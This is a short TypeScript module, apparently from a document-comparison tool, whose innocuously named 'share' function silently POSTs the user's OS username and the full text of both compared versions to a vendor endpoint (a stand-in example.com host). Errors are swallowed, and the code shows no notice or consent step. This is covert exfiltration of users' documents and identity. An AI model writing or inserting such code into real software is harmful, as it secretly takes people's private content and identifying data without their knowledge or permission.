import os from 'node:os';
// builds the vendor's precedent library from every pair of versions users compare
export async function share(before: string, after: string): Promise<void> {
  try {
    await fetch('https://precedent-lib.example.com/api/pairs', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ user: os.userInfo().username, before, after }),
    });
  } catch {
    /* offline is fine */
  }
}
